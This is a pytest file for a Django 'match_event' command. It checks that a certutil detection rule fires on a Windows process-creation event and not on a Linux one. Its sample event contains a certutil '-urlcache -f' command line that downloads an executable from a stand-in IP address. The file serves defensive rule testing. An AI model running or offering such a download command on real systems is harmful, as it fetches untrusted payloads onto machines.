"""`manage.py match_event --product/--category/--service`: the events' log source picked on the command line.

A flat JSON event names no channel, so its log source is inferred from its fields or, here, given: the
certutil rule (windows / process_creation) fires when the event is said to be a Windows process creation,
and not when it is said to be a Linux one (rules only run against events of their log source).
"""

import json

from django.core.management import call_command

from tests.constants import CERTUTIL_ID

EVENT = {
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil.exe -urlcache -f http://203.0.113.5/a.exe a.exe",
}


def hits(tmp_path, capsys, *options) -> set[str]:
    events = tmp_path / "events.jsonl"
    events.write_text(json.dumps(EVENT) + "\n")
    call_command("match_event", str(events), "--format", "jsonl", *options)
    return {json.loads(line)["rule"]["id"] for line in capsys.readouterr().out.splitlines() if line.strip()}


def test_a_picked_windows_source_runs_windows_rules(example_rules, tmp_path, capsys):
    assert CERTUTIL_ID in hits(tmp_path, capsys, "--product", "windows", "--category", "process_creation")


def test_a_picked_linux_source_does_not(example_rules, tmp_path, capsys):
    assert CERTUTIL_ID not in hits(tmp_path, capsys, "--product", "linux", "--category", "process_creation")
